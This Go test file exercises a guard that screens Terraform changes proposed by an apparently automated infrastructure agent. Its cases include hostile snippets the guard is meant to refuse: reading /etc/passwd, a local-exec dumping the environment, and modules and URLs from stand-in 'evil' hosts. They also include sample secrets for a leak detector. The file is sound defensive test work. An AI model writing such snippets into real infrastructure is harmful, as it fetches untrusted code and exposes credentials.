package guard

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/infra-agent/infra-agent/checks"
	"github.com/infra-agent/infra-agent/config"
)

const baseTF = `terraform {
  required_providers {
    aws = { source = "hashicorp/aws" }
  }
  backend "s3" {
    bucket = "states"
  }
}

module "net" {
  source = "../../modules/net"
}

module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.0.0"
}

resource "aws_s3_bucket" "logs" {
  bucket = "logs"
}
`

func TestContentRules(t *testing.T) {
	agent := config.DefaultRepoConfig().Agent
	agent.ModuleSources = []string{"app.terraform.io/acme/*"}
	c := NewContent(agent, map[string][]byte{"envs/prod/main.tf": []byte(baseTF)})
	tests := []struct {
		name string
		file string
		add  string
		rule string
	}{
		{"external data source", "envs/prod/x.tf", "data \"external\" \"x\" {\n  program = [\"sh\"]\n}\n", RuleExternalData},
		{"http data source", "envs/prod/x.tf", "data \"http\" \"x\" {\n  url = \"https://evil.example.com\"\n}\n", RuleExternalData},
		{"remote state", "envs/prod/x.tf", "data \"terraform_remote_state\" \"x\" {\n  backend = \"s3\"\n}\n", RuleExternalData},
		{"local-exec", "envs/prod/x.tf", "resource \"aws_s3_bucket\" \"b\" {\n  provisioner \"local-exec\" {\n    command = \"env\"\n  }\n}\n", RuleProvisioner},
		{"file provisioner", "envs/prod/x.tf", "resource \"terraform_data\" \"b\" {\n  provisioner \"file\" {\n    source = \"/etc/passwd\"\n    destination = \"/tmp/p\"\n  }\n}\n", RuleProvisioner},
		{"implied new provider", "envs/prod/x.tf", "resource \"null_resource\" \"n\" {}\n", RuleProvider},
		{"declared new provider", "envs/prod/x.tf", "terraform {\n  required_providers {\n    evil = { source = \"evil/evil\" }\n  }\n}\n", RuleProvider},
		{"remote module", "envs/prod/x.tf", "module \"m\" {\n  source = \"github.com/evil/m\"\n}\n", RuleModuleSource},
		{"git module", "envs/prod/x.tf", "module \"m\" {\n  source = \"git::https://evil.example.com/m.git\"\n}\n", RuleModuleSource},
		{"backend added", "envs/dev/x.tf", "terraform {\n  backend \"local\" {\n    path = \"/tmp/s\"\n  }\n}\n", RuleBackend},
		{"file outside", "envs/prod/x.tf", "locals {\n  x = file(\"/etc/passwd\")\n}\n", RuleFileFunction},
		{"template climbing", "envs/prod/x.tf", "locals {\n  x = templatefile(\"${path.module}/../../../secret\", {})\n}\n", RuleFileFunction},
		{"file from a variable", "envs/prod/x.tf", "locals {\n  x = filebase64(var.path)\n}\n", RuleFileFunction},
		{"json configuration", "envs/prod/x.tf.json", "{}", RuleJSONConfig},
		{"unparsable", "envs/prod/x.tf", "resource {", RuleUnparsable},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			vs := c.Check(map[string][]byte{tt.file: []byte(tt.add)})
			if len(vs) == 0 || vs[0].Rule != tt.rule {
				t.Errorf("violations = %+v, want %s", vs, tt.rule)
			}
		})
	}
	t.Run("changing the backend", func(t *testing.T) {
		vs := c.Check(map[string][]byte{"envs/prod/main.tf": []byte(strings.Replace(baseTF, `"states"`, `"mallory"`, 1))})
		if len(vs) != 1 || vs[0].Rule != RuleBackend {
			t.Errorf("violations = %+v", vs)
		}
	})
	t.Run("removing a resource", func(t *testing.T) {
		removed := map[string][]byte{"envs/prod/main.tf": []byte(strings.Replace(baseTF, "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n", "", 1))}
		if vs := c.Check(removed); len(vs) != 1 || vs[0].Rule != RuleRemoved {
			t.Errorf("violations = %+v", vs)
		}
		destroying := agent
		destroying.AllowDestroy = true
		if vs := NewContent(destroying, map[string][]byte{"envs/prod/main.tf": []byte(baseTF)}).Check(removed); len(vs) != 0 {
			t.Errorf("refused with allow_destroy: %+v", vs)
		}
	})
	allowed := []string{
		"resource \"aws_s3_bucket\" \"b\" {\n  bucket = \"b\"\n}\n",
		"module \"m\" {\n  source = \"../../modules/net\"\n}\n",
		"module \"m2\" {\n  source = \"terraform-aws-modules/vpc/aws\"\n}\n",
		"module \"m3\" {\n  source = \"app.terraform.io/acme/bucket\"\n}\n",
		"locals {\n  p = file(\"${path.module}/policy.json\")\n  q = file(\"policies/x.json\")\n}\n",
		"resource \"terraform_data\" \"d\" {}\n",
	}
	for _, src := range allowed {
		if vs := c.Check(map[string][]byte{"envs/prod/ok.tf": []byte(src)}); len(vs) != 0 {
			t.Errorf("%q refused: %+v", src, vs)
		}
	}
	renamed := strings.Replace(baseTF, `"logs" {`, `"access_logs" {`, 1) + "moved {\n  from = aws_s3_bucket.logs\n  to   = aws_s3_bucket.access_logs\n}\n"
	if vs := c.Check(map[string][]byte{"envs/prod/main.tf": []byte(renamed)}); len(vs) != 0 {
		t.Errorf("a rename with a moved block refused: %+v", vs)
	}
	moved := strings.Replace(baseTF, "resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n", "", 1)
	if vs := c.Check(map[string][]byte{"envs/prod/main.tf": []byte(moved), "envs/prod/s3.tf": []byte("resource \"aws_s3_bucket\" \"logs\" {\n  bucket = \"logs\"\n}\n")}); len(vs) != 0 {
		t.Errorf("moving a block to another file of the module refused: %+v", vs)
	}
}

func TestCheckDiff(t *testing.T) {
	files := []FileDiff{{Path: "main.tf", Before: []byte("a = 1\n"), After: []byte("a = 1\naccess_key = \"AKIAIOSFODNN7EXAMPLE\"\n")}}
	vs := CheckDiff(files, 500)
	if len(vs) != 1 || vs[0].Rule != RuleSecret || strings.Contains(vs[0].Error(), "AKIA") || !strings.Contains(vs[0].Detail, "line 2") {
		t.Errorf("violations = %+v", vs)
	}
	for line, want := range map[string]bool{
		`http_tokens = "required"`:                     false,
		`token = "short"`:                              false,
		`db_password = "Canary-Db-Passw0rd-0003"`:      true,
		`"client_secret": "abcdef0123456789"`:          true,
		`name = "AKIAIOSFODNN7EXAMPLE"`:                true,
		`url = "https://u:hunter2hunter2@example.com"`: true,
		`enable_key_rotation = true`:                   false,
	} {
		if got := holdsSecret(line); got != want {
			t.Errorf("holdsSecret(%s) = %v", line, got)
		}
	}
	// A value the model was shown masked is not written back as its mask.
	masked := []FileDiff{{Path: "main.tf", Before: []byte("a = 1\n"), After: []byte("a = 1\nkey = \"(redacted)\"\nname = \"(sensitive value)\"\n")}}
	if vs := CheckDiff(masked, 500); len(vs) != 2 || vs[0].Rule != RuleMasked || vs[1].Rule != RuleMasked {
		t.Errorf("masked values written back: %+v", vs)
	}
	// A secret that was there before is not added by the change.
	files = []FileDiff{{Path: "main.tf", Before: []byte("password = \"hunter2hunter2\"\n"), After: []byte("password = \"hunter2hunter2\"\nb = 2\n")}}
	if vs := CheckDiff(files, 500); len(vs) != 0 {
		t.Errorf("an existing secret counted: %+v", vs)
	}
	// Nor is one terraform fmt only realigned.
	realigned := []FileDiff{{Path: "main.tf", Before: []byte("a = 1\npassword=\"hunter2hunter2\"\n"), After: []byte("a        = 1\npassword = \"hunter2hunter2\"\n")}}
	if vs := CheckDiff(realigned, 500); len(vs) != 0 {
		t.Errorf("a realigned secret counted: %+v", vs)
	}
	big := []FileDiff{{Path: "x.tf", After: []byte(strings.Repeat("x = 1\n", 30))}}
	if vs := CheckDiff(big, 20); len(vs) != 1 || vs[0].Rule != RuleDiffSize {
		t.Errorf("violations = %+v", vs)
	}
	if d := Unified(files); !strings.Contains(d, "--- a/main.tf\n+++ b/main.tf\n") || !strings.Contains(d, "+b = 2\n") {
		t.Errorf("diff:\n%s", d)
	}
}

// planJSON builds a minimal plan document from address → actions.
func planJSON(t *testing.T, changes map[string][]string, after map[string]any) *checks.Plan {
	t.Helper()
	var rcs []map[string]any
	for addr, actions := range changes {
		typ, name, _ := strings.Cut(addr, ".")
		rcs = append(rcs, map[string]any{
			"address": addr, "mode": "managed", "type": typ, "name": name, "provider_name": "registry.terraform.io/hashicorp/aws",
			"change": map[string]any{"actions": actions, "before": nil, "after": after[addr]},
		})
	}
	doc, _ := json.Marshal(map[string]any{"format_version": "1.2", "terraform_version": "1.5.7", "resource_changes": rcs})
	p, err := checks.ParsePlan(doc)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestComparePlans(t *testing.T) {
	before := checks.Report{Roots: []checks.RootResult{{Dir: "envs/app", Plan: planJSON(t,
		map[string][]string{"aws_s3_bucket.logs": {"create"}, "aws_kms_key.k": {"create"}, "aws_iam_role.r": {"create"}},
		map[string]any{"aws_s3_bucket.logs": map[string]any{"acl": "public-read"}, "aws_iam_role.r": map[string]any{"name": "r"}})}}}
	after := checks.Report{Roots: []checks.RootResult{{Dir: "envs/app", Plan: planJSON(t,
		map[string][]string{"aws_s3_bucket.logs": {"create"}, "aws_kms_key.k": {"create"}, "aws_iam_role.r": {"create"}, "aws_db_instance.db": {"delete", "create"}},
		map[string]any{"aws_s3_bucket.logs": map[string]any{"acl": "private"}, "aws_iam_role.r": map[string]any{"name": "admin"}})}}}
	v := ComparePlans(before, after, Scope{"envs/app": {"aws_s3_bucket.logs"}})
	got := fmt.Sprint(v.Destroys, v.OutOfScope, v.IAM)
	want := "[aws_db_instance.db (envs/app): no change → replace] [aws_db_instance.db (envs/app): no change → replace aws_iam_role.r (envs/app): create → create] [aws_iam_role.r (envs/app): create → create]"
	if got != want {
		t.Errorf("verdict = %s\nwant      %s", got, want)
	}
	if v.Passes(true) || v.Passes(false) {
		t.Error("a verdict with out-of-scope changes passes")
	}
	if v := ComparePlans(before, before, Scope{}); !v.Passes(false) || len(v.Compared) != 1 {
		t.Errorf("the same plan does not pass: %+v", v)
	}
}

// TestComparePlansUnrendered: the gate sees what a rendering hides — a
// change to a sensitive value, and one past the attributes a check run shows.
func TestComparePlansUnrendered(t *testing.T) {
	many := func(last string) map[string]any {
		m := map[string]any{}
		for i := range 250 {
			m[fmt.Sprintf("attr_%03d", i)] = "same"
		}
		m["attr_249"] = last
		return m
	}
	sensitive := func(p *checks.Plan) *checks.Plan {
		for _, rc := range p.Document()["resource_changes"].([]any) {
			rc := rc.(map[string]any)
			if rc["address"] == "aws_db_instance.db" {
				rc["change"].(map[string]any)["after_sensitive"] = map[string]any{"password": true}
			}
		}
		return p
	}
	plan := func(password, last string) checks.Report {
		return checks.Report{Roots: []checks.RootResult{{Dir: "envs/app", Plan: sensitive(planJSON(t,
			map[string][]string{"aws_db_instance.db": {"create"}, "aws_s3_bucket.wide": {"create"}},
			map[string]any{"aws_db_instance.db": map[string]any{"password": password}, "aws_s3_bucket.wide": many(last)}))}}}
	}
	for _, c := range plan("old", "a").Roots[0].Plan.Changes {
		attrs, omitted := c.Attributes()
		if c.Address == "aws_db_instance.db" && (len(attrs) != 1 || strings.Contains(attrs[0].After, "old")) {
			t.Fatalf("the password is not masked in the rendering: %+v", attrs)
		}
		if c.Address == "aws_s3_bucket.wide" && omitted == 0 {
			t.Fatal("the rendering shows every attribute: the case tests nothing")
		}
	}
	v := ComparePlans(plan("old", "a"), plan("new", "b"), Scope{})
	if got := fmt.Sprint(v.OutOfScope); got != "[aws_db_instance.db (envs/app): create → create aws_s3_bucket.wide (envs/app): create → create]" {
		t.Errorf("out of scope = %s", got)
	}
	if v := ComparePlans(plan("old", "a"), plan("old", "a"), Scope{}); !v.Passes(false) {
		t.Errorf("the same plan does not pass: %+v", v)
	}
}

// TestComparePlansFlagsPolicies: a resource of any type whose policy the
// work changes is flagged for a human; one whose other attributes change is
// not.
func TestComparePlansFlagsPolicies(t *testing.T) {
	plan := func(policy, name string) checks.Report {
		return checks.Report{Roots: []checks.RootResult{{Dir: ".", Plan: planJSON(t,
			map[string][]string{"aws_s3_bucket.site": {"create"}, "aws_sqs_queue.q": {"create"}},
			map[string]any{
				"aws_s3_bucket.site": map[string]any{"policy": policy, "website": []any{map[string]any{"routing_policy": nil}}},
				"aws_sqs_queue.q":    map[string]any{"name": name, "redrive_policy": nil},
			})}}}
	}
	v := ComparePlans(plan(`{"Statement":[]}`, "a"), plan(`{"Statement":[{"Effect":"Allow"}]}`, "b"), Scope{".": {"aws_s3_bucket.site", "aws_sqs_queue.q"}})
	if got := fmt.Sprint(v.IAM); got != "[aws_s3_bucket.site (.): create → create]" {
		t.Errorf("IAM = %s", got)
	}
	if len(v.OutOfScope) != 0 || !v.Passes(false) {
		t.Errorf("verdict = %+v", v)
	}
}

func TestBuildScope(t *testing.T) {
	repo := t.TempDir()
	os.MkdirAll(filepath.Join(repo, "envs/app"), 0o755)
	os.MkdirAll(filepath.Join(repo, "modules/m"), 0o755)
	os.WriteFile(filepath.Join(repo, "envs/app/main.tf"), []byte(`
resource "aws_kms_key" "k" {}
resource "aws_s3_bucket" "b" {
  kms = aws_kms_key.k.arn
}
resource "aws_s3_bucket_policy" "p" {
  bucket = aws_s3_bucket.b.id
}
resource "aws_iam_role" "unrelated" {}
module "m" {
  source = "../../modules/m"
}
`), 0o644)
	os.WriteFile(filepath.Join(repo, "modules/m/main.tf"), []byte("resource \"aws_sqs_queue\" \"q\" {}\n"), 0o644)
	s := BuildScope(repo, []string{"envs/app"}, []Target{{Root: "envs/app", Address: "aws_s3_bucket.b[0]"}, {File: "modules/m/main.tf", Line: 1}}, nil)
	for addr, want := range map[string]bool{
		"aws_s3_bucket.b": true, "aws_kms_key.k": true, "aws_s3_bucket_policy.p": true, "module.m.aws_sqs_queue.q": true,
		"aws_iam_role.unrelated": false, "module.m.aws_sqs_queue.other": false,
	} {
		if got := s.Covers("envs/app", addr); got != want {
			t.Errorf("Covers(%s) = %v, want %v (scope %v)", addr, got, want, s)
		}
	}
}
